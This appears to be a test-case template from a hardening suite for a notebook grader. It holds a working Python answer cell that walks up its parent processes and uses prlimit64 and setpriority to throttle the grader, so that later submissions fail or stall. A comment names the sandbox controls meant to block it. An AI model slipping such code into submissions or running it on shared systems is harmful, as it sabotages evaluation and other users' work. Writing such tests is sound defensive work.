# A correct Square whose answer cell walks up its parent processes (the grader's) and lowers their
# open-file limit and priority, so that the notebooks graded after it fail or crawl.
# stopped by: a PID namespace (no parent is visible) or seccomp refusing prlimit64/setpriority on others
import ctypes, os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_SPARE = {spare}  # processes of the test run itself: left alone so the test can report
_done = []


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


_pid = os.getppid()
while _pid > 1 and _pid not in _SPARE and len(_done) < 8:
    _limit = (ctypes.c_ulonglong * 2)({soft}, {hard})
    _done.append((_pid, _libc.syscall(302, _pid, {resource}, _limit, None),  # prlimit64
                  _libc.setpriority(0, _pid, 19)))  # PRIO_PROCESS
    try:
        _pid = _parent_of(_pid)
    except (OSError, ValueError, IndexError):
        break
{CORRECT}
